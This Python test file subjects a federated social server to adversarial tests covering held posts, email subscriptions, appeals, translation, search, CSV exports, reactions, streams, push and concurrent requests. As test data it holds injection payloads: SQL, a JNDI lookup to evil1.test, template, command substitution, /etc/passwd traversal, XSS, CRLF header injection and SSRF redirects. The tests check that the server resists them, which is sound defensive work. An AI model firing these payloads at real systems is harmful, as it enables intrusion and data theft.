"""Attacks on the undo window, appeals, reading by e-mail, translation, lost follows, reactions, live streams and push
(classes 19, 22, 32, 37 once more), and what names and texts of strangers could be taken for (32)."""

import asyncio
import csv
import io
import re
from collections.abc import AsyncIterator
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from starlette.responses import JSONResponse, Response

from storage import domains, email_subscriptions, oauth
from tests.support import live, mailbox
from tests.support.browser import browser
from tests.support.database import Databases
from tests.support.mailbox import Mailbox
from tests.support.network import Network
from tests.support.puppet import PUBLIC
from tests.support.push import Device, Service
from tests.support.servers import drain, node
from tests.support.siege import JSON, Siege, attacks
from tests.support.translator import Translator

pytestmark = pytest.mark.anyio

ACTIVITY = {"Accept": "application/activity+json"}


def answered(siege: Siege, answer: httpx.Response) -> httpx.Response:
    siege.answers.append(answer.status_code)
    return answer


# ---------------------------------------------------------------- 19: what has not been sent yet


async def _before_it_is_sent(siege: Siege) -> None:
    """A follower elsewhere has guessed the address of a held post; people here may read it, and pass nothing on."""
    evil, alice, bob = siege.villain(), siege.alice, siege.bob
    await evil.says("Follow", alice.uri)
    await siege.settle()
    before = await alice.get(f"/api/v1/accounts/{alice.id}")
    for locally in (False, True):
        await alice.api("PATCH", "/api/v1/fedi/preferences", json={"hold_seconds": 3600, "hold_locally": locally})
        held = await alice.posts(f"heldword @mallory@{evil.host.host} #heldtag https://x.test/")
        await alice.api("PATCH", "/api/v1/fedi/preferences", json={"hold_seconds": 0})
        await siege.ready()
        evil.host.inbox.clear()
        siege.puppet.inbox.clear()
        for kind, more in (
            ("Like", {}),
            ("EmojiReact", {"content": "👍"}),
            ("Announce", {"to": [PUBLIC]}),
            ("Flag", {}),
            ("QuoteRequest", {"instrument": f"{evil.uri}/q"}),
            ("LikeRequest", {"instrument": f"{evil.uri}/l"}),
            ("Delete", {}),
            ("Undo", {}),
        ):
            await evil.says(kind, held["uri"], **more)
        for more in ({"inReplyTo": held["uri"]}, {"quote": held["uri"]}, {"quoteUrl": held["uri"]}):
            await evil.sends(evil.host.create(evil.host.note(evil.actor, f"n{next(siege.numbers)}", **more)))
        path = held["uri"].removeprefix(siege.server.base_url)
        for address in (path, *(f"{path}/{part}" for part in ("activity", "replies", "likes", "shares"))):
            answer = answered(siege, await evil.host.get(siege.server, address, evil.actor))
            assert (answer.status_code, "heldword" in answer.text) == (404, False)
        for address in (
            held["url"],
            "/@alice",
            "/tags/heldtag",
            "/users/alice/outbox?page=true",
            "/users/alice/outbox",
            "/users/alice/collections/featured",
            f"/api/v1/statuses/{held['id']}",
            f"/api/v1/accounts/{alice.id}/statuses",
            "/api/v1/timelines/public",
            "/api/v1/timelines/tag/heldtag",
            f"/api/oembed?url={held['url']}",
            f"{held['url']}/embed",
            f"/contexts/{held['id']}",
        ):
            for headers in (ACTIVITY, {"Accept": "text/html"}):
                shown = answered(siege, await siege.server.client.get(address, headers=headers))
                assert "heldword" not in shown.text, address
        if locally:
            done = [
                await bob.call("POST", f"/api/v1/statuses/{held['id']}/{verb}")
                for verb in ("favourite", "reblog", "bookmark", "pin")
            ]
            done.append(await bob.call("PUT", f"/api/v1/pleroma/statuses/{held['id']}/reactions/👍"))
            done += [
                await bob.call("POST", "/api/v1/statuses", json={"status": "q", "quoted_status_id": held["id"]}),
                await bob.call("POST", "/api/v1/statuses", json={"status": "re", "in_reply_to_id": held["id"]}),
                await bob.call(
                    "POST",
                    "/api/v1/reports",
                    json={"account_id": alice.id, "status_ids": [held["id"]], "forward": True},
                ),
            ]
            for each in done:
                answered(siege, each)
        await siege.settle()
        sent = [each for each in evil.host.inbox + siege.puppet.inbox if held["uri"] in str(each)]
        assert sent == [], sent
        assert (await siege.counts(held))[1] == 0
        await alice.api("DELETE", f"/api/v1/statuses/{held['id']}")
        await siege.settle()
        assert [each for each in evil.host.inbox if held["uri"] in str(each) and each["type"] == "Delete"] == []
    after = await alice.get(f"/api/v1/accounts/{alice.id}")
    assert after["statuses_count"] == before["statuses_count"]
    await siege.ready()


async def test_19_what_has_not_been_sent_yet(siege: Siege) -> None:
    await siege.hold(attacks(_before_it_is_sent))


# ---------------------------------------------------------------- letters, links in them, appeals, translation


@pytest.fixture(scope="module")
async def writing(
    databases: Databases, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[tuple[Siege, Mailbox, Translator]]:
    """A server that sends mail, lets itself be read by mail, and has posts translated."""
    network, url = Network(), await databases.take()
    directory, pool = tmp_path_factory.mktemp("writing"), await databases.pool(url)
    more: dict[str, Any] = {"email_subscriptions": "everyone", "translation_url": "https://translate.test"}
    async with mailbox.mailbox() as box:
        more |= mailbox.settings(box)
        async with node("example.test", url, network, directory, pool, **more) as server:
            yield await Siege.begin(server), box, Translator(network)
    databases.release()


async def _offered(siege: Siege) -> None:
    async with siege.server.db.transaction() as conn:
        await email_subscriptions.enable(conn, siege.alice.account_id, enabled=True)


async def test_32_letters_go_where_they_should_and_say_what_they_should(writing: Any) -> None:
    """Addresses that are two, names that begin a header, links that are guessed or are for something else."""
    siege, box, _ = writing
    before = len(siege.answers)  # of others, whose translator may be away
    await _offered(siege)
    path = f"/api/v1/accounts/{siege.alice.id}/email_subscriptions"
    for address in (
        "a@mail.test\r\nBcc: b@mail.test",
        "a@mail.test, b@mail.test",
        "a@mail.test\nb@mail.test",
        "<a@mail.test>",
        "a%b@mail.test",
        '"a\\"b"@mail.test',
        "a@mail.test@b.test",
        "a" * 400 + "@mail.test",
        "",
    ):
        assert answered(siege, await siege.server.client.post(path, json={"email": address})).status_code == 422, (
            address
        )
    await siege.alice.api(
        "PATCH", "/api/v1/accounts/update_credentials", json={"display_name": "A\r\nBcc: evil@mail.test\r\n\r\nx"}
    )
    for address in ("reader@mail.test", "reader@mail.test", "READER@mail.test"):
        answer = answered(siege, await siege.server.client.post(path, json={"email": address}))
        assert (answer.status_code, answer.json()) == (200, {})
    await siege.settle()
    assert len([each for each in box.letters if "reader" in str(each["To"]).lower()]) == 1, "it is asked once"
    (letter,) = box.to("reader@mail.test")
    assert letter["Bcc"] is None
    assert str(letter["To"]) == "reader@mail.test"
    link = box.link("reader@mail.test")
    token = link.partition("token=")[2]
    number, _, digest = token.partition("-")
    for wrong in (
        f"{number}-{'0' * 40}",
        f"{int(number) + 1}-{digest}",
        f"{number}-",
        f"-{digest}",
        "",
        "x",
        f"{number}-{digest}x",
        f"٣-{digest}",
        f"{number}-{digest.upper()}" if digest != digest.upper() else "x",
        f"{'9' * 30}-{digest}",
    ):
        async with browser(siege.server) as window:
            answer = answered(siege, await window.open("/email_subscriptions/confirm", params={"token": wrong}))
            assert answer.status_code == 410, wrong
            unsubscribed = await window.client.post("/email_subscriptions/unsubscribe", data={"token": wrong})
            answered(siege, unsubscribed)
    # The link that confirms does not unsubscribe, and is not followed by being looked at.
    await siege.server.client.post("/email_subscriptions/unsubscribe", data={"token": token})
    await siege.server.client.get(link.removeprefix(siege.server.base_url))
    assert await siege.count("select count(*) from email_subscriptions where confirmed_at is null") == 1
    await siege.alice.api("PATCH", "/api/v1/accounts/update_credentials", json={"display_name": "Alice"})
    assert all(status < 500 for status in siege.answers[before:])
    await siege.ready()
    await siege.lives()


async def test_22_an_appeal_is_for_whom_it_concerns(writing: Any) -> None:
    """The link of somebody suspended opens their strikes, nobody else's, and runs nothing that they wrote."""
    siege, _box, _ = writing
    mod = await siege.server.person("mod", role="moderator", scopes="read write admin:read admin:write")
    carol, dave = await siege.server.person("carol"), await siege.server.person("dave")
    for person in (carol, dave):
        await mod.post(
            f"/api/v1/admin/accounts/{person.id}/action", {"type": "suspend", "text": f"psst {person.username}"}
        )
    await siege.settle()
    async with siege.server.db.read() as conn:
        rows = await conn.fetch("select account_id, id from account_warnings")
    strikes = {row["account_id"]: row["id"] for row in rows}
    async with browser(siege.server) as window:
        await window.open("/auth/log_in")
        await window.submit("/auth/log_in", {"login": "carol", "password": "correct horse battery staple"})
        assert window.status == 403
        found = re.search(r"/disputes/strikes\?token=([\w-]+)", window.html)
        assert found is not None
        token = found[1]
        assert "psst carol" in (await window.open(f"/disputes/strikes/{strikes[carol.account_id]}?token={token}")).text
        own = f"/disputes/strikes/{strikes[carol.account_id]}/appeal"
        form = window.form(own)
        theirs = f"/disputes/strikes/{strikes[dave.account_id]}"
        assert answered(siege, await window.open(f"{theirs}?token={token}")).status_code == 404
        same_site = {"Sec-Fetch-Site": "same-origin"}
        for target, more, expected in (
            (f"{theirs}/appeal", {"text": "mine"}, 404),
            (own, {"text": ""}, 422),
            (own, {"text": "x" * 5000}, 422),
            (own, {"text": "x", "form_token": "0"}, 422),
            (own, {"text": "x", "token": "guess"}, 303),
            (own, {"text": '<script>alert(1)</script>"><img src=x onerror=alert(1)>'}, 303),
            (own, {"text": "again"}, 422),
        ):
            answer = await window.client.post(target, data={**form, **more}, headers=same_site)
            assert answered(siege, answer).status_code == expected, (target, more)
    assert await siege.count("select count(*) from appeals") == 1
    await siege.server.person("judge", role="admin")
    async with browser(siege.server) as window:
        await window.log_in("judge")
        await window.open("/auth/appeals")
        assert "&lt;script&gt;" in window.html
        assert "<script>alert" not in window.html
        assert "<img" not in window.html
    await siege.ready()
    await siege.lives()


async def test_16_what_a_translator_says(writing: Any) -> None:
    """The service is a stranger too: markup, the wrong number of texts, no JSON, nothing, too much, another place."""
    siege, _box, translator = writing
    evil = '<p onclick="x()">hi<script>alert(1)</script><a href="javascript:x()">l</a><iframe src=//x></iframe></p>'
    inner = siege.server.network.seen
    for number, (answer, expected) in enumerate(
        (
            (JSONResponse({"translatedText": [evil, evil], "detectedLanguage": {"language": evil}}), 200),
            (JSONResponse({"translatedText": ["x" * 900_000, "y"]}), 200),
            (JSONResponse({"translatedText": []}), 503),
            (JSONResponse({"translatedText": ["a"] * 3}), 503),
            (JSONResponse([]), 503),
            (Response("[" * 100_000), 503),
            (Response('{"translatedText": ["\\ud800", "\\u0000"]}'), 503),
            (Response("", 500), 503),
            (Response("", 302, {"Location": "https://inner.test/"}), 503),
            (Response("x" * 5_000_000), 503),
            (JSONResponse({"translatedText": ["\0\u202e", "\0"]}), 200),
        )
    ):
        status = await siege.alice.posts(f"hello {number}", spoiler_text="w", language="en")
        translator.answer = answer
        made = answered(
            siege, await siege.bob.call("POST", f"/api/v1/statuses/{status['id']}/translate", json={"lang": "de"})
        )
        assert made.status_code == expected, (number, made.status_code, made.text[:200])
        for bad in ("<script", "onclick", "javascript:", "<iframe", "\\u0000"):
            assert bad not in made.text
    assert not [url for _, url in inner if "inner.test" in url]
    translator.answer = None
    await siege.ready()
    await siege.lives()


# ---------------------------------------------------------------- 32: what could be taken for something else

ODD = (
    "'; drop table accounts; --",
    "%",
    "_",
    "\\",
    "%%%%%%%%_______%%%%%%%",
    "' | ! & ( ) :* <-> 'a",
    "a & !(b | c) <-> d:*",
    "((((((((((",
    '"unclosed',
    "\\x00\\u0000",
    "${jndi:ldap://evil1.test/a}",
    "{{7*7}}",
    "{% raw %}",
    "<%= 7*7 %>",
    "$(id)`id`",
    "../../../../etc/passwd",
    "%2e%2e%2f",
    "*)(uid=*))(|(uid=*",
    "a\r\nSet-Cookie: x=y",
    "a%0d%0aSet-Cookie:%20x=y",
    "=HYPERLINK(1)",
    "(a+)+$",
    ".*" * 200,
    "\u202e\u2066\ufeff",
    "from:me has:media language:'; in:library before:2020-13-45",
    "-" * 2000,
    "🙂" * 500,
)


async def _in_every_search(siege: Siege) -> None:
    for text in ODD:
        for path, name in (
            ("/api/v2/search", "q"),
            ("/api/v1/accounts/lookup", "acct"),
            ("/api/v1/timelines/link", "url"),
            ("/.well-known/webfinger", "resource"),
        ):
            answer = answered(siege, await siege.alice.call("GET", path, params={name: text}))
            assert "set-cookie" not in answer.headers
            assert answer.status_code < 500, (path, text)
        answer = answered(siege, await siege.alice.call("GET", f"/api/v1/timelines/tag/{quote(text, safe='')}"))
        everything = await siege.alice.call("GET", "/api/v2/search", params={"q": text, "type": "accounts"})
        found = everything.json().get("accounts", []) if everything.status_code == 200 else []
        assert not {each["acct"] for each in found} & {"bob", "pat@puppet.test"} or text.isalpha(), text


async def _in_names_of_strangers(siege: Siege) -> None:
    """As name, handle, bio, field, tag, emoji, language, address: kept as text, shown as text, on pages and in JSON."""
    markup = '"><script>alert(1)</script><img src=x onerror=alert(1)>'
    for number, text in enumerate((*ODD[::4], markup)):
        evil = siege.villain(
            name=text,
            summary=f"<p>{text}</p>",
            url=f"https://x.test/{number}#{text[:50]}",
            attachment=[{"type": "PropertyValue", "name": text[:200], "value": text}],
            tag=[
                {
                    "type": "Emoji",
                    "name": f":{text[:40]}:",
                    "icon": {"type": "Image", "url": f"https://x.test/{text[:40]}"},
                }
            ],
        )
        note = evil.host.note(
            evil.actor,
            "n",
            content=f"<p>{text}</p>",
            summary=text,
            name=text,
            url=f"javascript:alert('{text[:10]}')",
            contentMap={text[:20]: "x"},
            tag=[
                {"type": "Hashtag", "name": f"#{text}", "href": f"https://x.test/{text[:40]}"},
                {"type": "Mention", "href": siege.alice.uri, "name": text},
            ],
            attachment=[
                {"type": "Image", "mediaType": text[:50], "url": f"https://x.test/a?{text[:40]}", "name": text}
            ],
            to=[PUBLIC, siege.alice.uri],
        )
        await evil.sends(evil.host.create(note))
        await siege.settle()
        for answer in (
            await siege.alice.call("GET", "/api/v1/timelines/home"),
            await siege.alice.call("GET", "/api/v1/notifications"),
            await siege.server.client.get("/@alice", headers={"Accept": "text/html"}),
            await siege.server.client.get("/tags/x", headers={"Accept": "text/html"}),
        ):
            answered(siege, answer)
            assert answer.status_code == 200
            assert "set-cookie" not in {name for name in answer.headers if "x=y" in answer.headers[name]}
        async with browser(siege.server) as window:
            await window.log_in("alice")
            await window.open("/authorize_interaction", params={"uri": note["id"]})
            siege.answers.append(window.status)
            assert "<script>alert" not in window.html
            assert "onerror=alert" not in re.sub(r"&#?\w+;[^<]*", "", window.html)
            assert 'href="javascript' not in window.html


async def test_32_what_could_be_taken_for_something_else(siege: Siege) -> None:
    await siege.hold(attacks(_in_every_search, _in_names_of_strangers))


async def _lost_follows_as_a_table(siege: Siege) -> None:
    """Handles of strangers in a file that a spreadsheet opens: none is a formula, none makes a second row."""
    evil = siege.villain()
    names = ("=1+1", "+1", "@SUM(1)", "a,b", 'a"b', "a\nb", "-2+3", "a\tb", "..", "a%0ab")
    for number, name in enumerate(names):
        actor = evil.host.actor(f"odd{number}", key=3, preferredUsername=name)
        other = type(evil)(siege, evil.host, actor)
        await other.says("Follow", siege.alice.uri)
    await siege.settle()
    async with siege.server.db.transaction() as conn:
        await domains.block(conn, evil.host.host)
    await siege.settle()
    async with browser(siege.server) as window:
        await window.log_in("alice")
        await window.open("/severed_relationships")
        for link in re.findall(r"/severed_relationships/\d+/followers\.csv", window.html):
            answer = answered(siege, await window.open(link))
            assert answer.headers["content-type"].startswith("text/csv")
            assert answer.headers["cache-control"] == "private, no-store"
            rows = list(csv.reader(io.StringIO(answer.text)))
            for row in rows[1:]:
                assert len(row) == 1
                assert re.fullmatch(r"[\w.-]+@[a-z0-9.:-]+", row[0], re.ASCII), row
    await siege.ready()


async def _reactions(siege: Siege) -> None:
    """Emoji that are none, too many, somebody else's, with pictures that run."""
    evil = siege.villain()
    status = await siege.mine("react")
    for content in (
        "",
        " ",
        "<script>",
        "x" * 5000,
        "👍" * 50,
        ":javascript:",
        ":../../x:",
        "\0",
        "\u202e",
        "a",
        "%",
        ":" * 100,
        "👍\r\nX: y",
        7,
        ["👍"],
        {"a": 1},
    ):
        await evil.says("EmojiReact", status["uri"], content=content)
        await evil.says("Like", status["uri"], content=content, _misskey_reaction=content)
    for url in (
        "javascript:alert(1)",
        "https://127.0.0.1/a.png",
        "file:///etc/passwd",
        "https://x.test/a.svg",
        7,
        None,
    ):
        icon = {"type": "Image", "url": url}
        tag = [{"type": "Emoji", "id": f"https://puppet.test/e/{next(siege.numbers)}", "name": ":evil:", "icon": icon}]
        await evil.says("EmojiReact", status["uri"], content=":evil:", tag=tag)
        await evil.says("EmojiReact", status["uri"], content=":evil@puppet.test:", tag=tag)
    for number in range(40):
        await evil.says("EmojiReact", status["uri"], content=chr(0x1F600 + number))
    await siege.settle()
    shown = await siege.alice.get(f"/api/v1/statuses/{status['id']}")
    assert "javascript:" not in str(shown).replace(":javascript:", "")
    assert "file:" not in str(shown)
    assert await siege.count("select count(*) from reactions where status_id = $1", int(status["id"])) <= 20
    assert not await siege.count("select exists (select from custom_emojis where domain = 'puppet.test')")
    await siege.ready()


async def test_32_tables_and_reactions(siege: Siege) -> None:
    await siege.hold(attacks(_lost_follows_as_a_table, _reactions))


# ---------------------------------------------------------------- 37: streams and push


async def test_37_streams_end_with_what_let_them_in(siege: Siege) -> None:
    """By whatever the token ended; what comes afterwards reaches nobody. Lists of others, odd words, too many."""
    async with live.listening(siege.server) as url:
        narrow = await siege.server.issue(
            user_id=siege.alice.user_id, account_id=siege.alice.account_id, scopes="write push"
        )
        token = await siege.server.issue(
            user_id=siege.alice.user_id, account_id=siege.alice.account_id, scopes="read:statuses"
        )
        listed = await siege.bob.post("/api/v1/lists", {"title": "l"})
        base = live.address(url)
        for query in ("", "?access_token=", "?access_token=guess", "?access_token=%00", "?stream=user"):
            with pytest.raises(Exception, match=r"HTTP 40[13]"):
                async with live.opened(f"{base}{query}"):
                    pass
        async with live.opened(f"{base}?access_token={narrow}") as stream:
            for name in ("user", "public", "user:notification", "direct", "public:local", "hashtag"):
                await stream.subscribe(name, tag="x")
            said = await stream.quiet(seconds=0.3)
            assert len(said) == 6
            assert all("error" in each for each in said), "every stream needs its scope"
        async with live.opened(f"{base}?access_token={token}&stream=user") as stream:
            for words in (
                "not json",
                "[]",
                "7",
                "null",
                '{"type": "subscribe"}',
                '{"type": "subscribe", "stream": ["user"]}',
                f'{{"type": "subscribe", "stream": "list", "list": "{listed["id"]}"}}',
                '{"type": "subscribe", "stream": "list", "list": "1 or 1=1"}',
                '{"type": "subscribe", "stream": "list", "list": 99999999999999999999999}',
                '{"type": "subscribe", "stream": "user:notification"}',
                '{"type": "subscribe", "stream": "admin"}',
                '{"type": "subscribe", "stream": "hashtag", "tag": "%s"}' % ("x" * 10_000),
                '{"type": "subscribe", "stream": "hashtag", "tag": {"a": 1}}',
                "{" * 5000,
                '{"type": "\\u0000", "stream": "\\ud800"}',
            ):
                await stream.connection.send(words)
            said = await stream.quiet(seconds=0.3)
            assert all("error" in each for each in said)
            await siege.bob.posts("secret @alice", visibility="direct")
            await siege.settle()
            told = await stream.quiet(seconds=0.3)
            assert not [each for each in told if each.get("event") == "notification"], "read:statuses hears of none"
            async with siege.server.db.transaction() as conn:
                row = await conn.fetchval(
                    "select max(id) from oauth_tokens where account_id = $1", siege.alice.account_id
                )
                await oauth.revoke_ids(conn, [row])
            await siege.settle()
            assert await stream.closed(seconds=3) in (1001, 1005, 1006, 1008)
    await siege.ready()
    await siege.lives()


async def test_37_what_a_push_service_answers(siege: Siege) -> None:
    """Elsewhere, endlessly, nothing, or that all is well: no job breaks, and nothing else is asked."""
    service = Service(siege.server.network, "push.evil.test")
    device = Device(service)
    body = {"subscription": device.subscription(), "data": {"alerts": {"mention": True}, "policy": "all"}}
    for status, headers in (
        (302, {"Location": "https://127.0.0.1/"}),
        (307, {"Location": "https://inner.test/"}),
        (500, {}),
        (429, {"Retry-After": "-1"}),
        (429, {"Retry-After": "9" * 400}),
        (404, {}),
        (201, {"Location": "javascript:x"}),
        (599, {}),
    ):
        await siege.alice.post("/api/v1/push/subscription", body)
        service.answers, service.headers = [status], headers
        await siege.bob.posts("hello @alice")
        await drain(siege.server)
        async with siege.server.db.transaction() as conn:
            await conn.execute("delete from jobs where name = 'push'")
    assert not [url for _, url in siege.server.network.seen if "127.0.0.1" in url or "inner.test" in url]
    for wrong in (
        "http://push.test/",
        "https://",
        "ftp://x",
        "x",
        "",
        "https://a:b@push.test/",
        "javascript:x",
        "https://[::1",
    ):
        subscription: JSON = {**device.subscription(), "endpoint": wrong}
        answer = await siege.alice.call(
            "POST", "/api/v1/push/subscription", json={**body, "subscription": subscription}
        )
        assert answer.status_code in (200, 400, 422), wrong
    await siege.alice.call("DELETE", "/api/v1/push/subscription")
    await siege.ready()
    await siege.lives()


# ---------------------------------------------------------------- 29: the same at once


async def _the_same_at_once(siege: Siege) -> None:
    """One code, one invitation, one vote, one name, one follow: asked for many times at the same moment."""
    alice, bob, client = siege.alice, siege.bob, siege.server.client
    poll = await alice.posts("vote", poll={"options": ["a", "b", "c"], "expires_in": 3600})
    path = f"/api/v1/polls/{poll['poll']['id']}/votes"
    voted = await asyncio.gather(*(bob.call("POST", path, json={"choices": [each % 3]}) for each in range(8)))
    assert [answered(siege, each).status_code for each in voted].count(200) == 1
    assert (await alice.get(f"/api/v1/polls/{poll['poll']['id']}"))["votes_count"] == 1
    for verb, undo, field in (
        ("favourite", "unfavourite", "favourites_count"),
        ("reblog", "unreblog", "reblogs_count"),
    ):
        for name, expected in ((verb, 1), (undo, 0)):
            done = await asyncio.gather(*(bob.call("POST", f"/api/v1/statuses/{poll['id']}/{name}") for _ in range(8)))
            assert {answered(siege, each).status_code for each in done} <= {200}
            await siege.settle()
            assert (await alice.get(f"/api/v1/statuses/{poll['id']}"))[field] == expected, name
    for name, expected in (("follow", 1), ("unfollow", 0), ("block", 0), ("unblock", 0)):
        done = await asyncio.gather(*(bob.call("POST", f"/api/v1/accounts/{alice.id}/{name}") for _ in range(8)))
        assert {answered(siege, each).status_code for each in done} <= {200}
        await siege.settle()
        count = "select count(*) from follows where account_id = $1 and target_id = $2"
        assert await siege.count(count, bob.account_id, alice.account_id) == expected
        shown = (await alice.get(f"/api/v1/accounts/{bob.id}"))["following_count"]
        assert shown == expected, name
    forms = [
        {"username": "racer", "email": f"racer{number}@mail.test", "password": "long enough it is", "agreement": True}
        for number in range(4)
    ] + [
        {"username": f"other{number}", "email": "same@mail.test", "password": "long enough it is", "agreement": True}
        for number in range(4)
    ]
    app = (
        await client.post("/api/v1/apps", json={"client_name": "x", "redirect_uris": "a://b", "scopes": "write"})
    ).json()
    body = {"grant_type": "client_credentials", "client_id": app["client_id"], "client_secret": app["client_secret"],
            "scope": "write"}  # fmt: skip
    headers = {"Authorization": f"Bearer {(await client.post('/oauth/token', data=body)).json()['access_token']}"}
    made = await asyncio.gather(*(client.post("/api/v1/accounts", json=form, headers=headers) for form in forms))
    statuses = [answered(siege, each).status_code for each in made]
    assert (statuses[:4].count(200), statuses[4:].count(200)) == (1, 1)
    assert set(statuses) == {200, 422}
    keyed = await asyncio.gather(
        *(
            alice.call("POST", "/api/v1/statuses", json={"status": "once"}, headers={"Idempotency-Key": "k"})
            for _ in range(6)
        )
    )
    assert len({answered(siege, each).json()["id"] for each in keyed}) == 1
    emoji = [chr(0x1F600 + number) for number in range(30)]
    reacted = await asyncio.gather(
        *(bob.call("PUT", f"/api/v1/pleroma/statuses/{poll['id']}/reactions/{each}") for each in emoji)
    )
    assert {answered(siege, each).status_code for each in reacted} <= {200, 422}
    assert await siege.count("select count(*) from reactions where status_id = $1", int(poll["id"])) <= 20
    ended = await asyncio.gather(
        *(alice.call("DELETE", f"/api/v1/statuses/{poll['id']}") for _ in range(5)),
        *(bob.call("POST", f"/api/v1/statuses/{poll['id']}/favourite") for _ in range(5)),
        *(bob.call("POST", "/api/v1/statuses", json={"status": "re", "in_reply_to_id": poll["id"]}) for _ in range(5)),
    )
    assert {answered(siege, each).status_code for each in ended} <= {200, 404, 422}
    await siege.ready()


async def _one_post_from_every_side(siege: Siege) -> None:
    """Liked, boosted, answered and quoted at once, by the same person: each locks several counters and marks."""
    posts = [await siege.mine("one"), await siege.mine("two")]
    verbs = ("favourite", "unfavourite", "reblog", "unreblog")
    acted = await asyncio.gather(
        *(siege.bob.call("POST", f"/api/v1/statuses/{posts[0]['id']}/{verb}") for verb in verbs * 8),
        *(
            siege.alice.call(
                "POST",
                "/api/v1/statuses",
                json={"status": "re", "in_reply_to_id": answers["id"], "quoted_status_id": quotes["id"]},
            )
            for answers, quotes in (posts, posts[::-1]) * 8
        ),
    )
    assert {answered(siege, each).status_code for each in acted} <= {200, 404}
    for verb in ("unfavourite", "unreblog"):
        await siege.bob.post(f"/api/v1/statuses/{posts[0]['id']}/{verb}")
    assert await siege.counts(posts[0]) == (0, 0, 8)
    await siege.ready()


async def test_29_the_same_at_once(siege: Siege) -> None:
    await siege.hold(attacks(_the_same_at_once, _one_post_from_every_side))
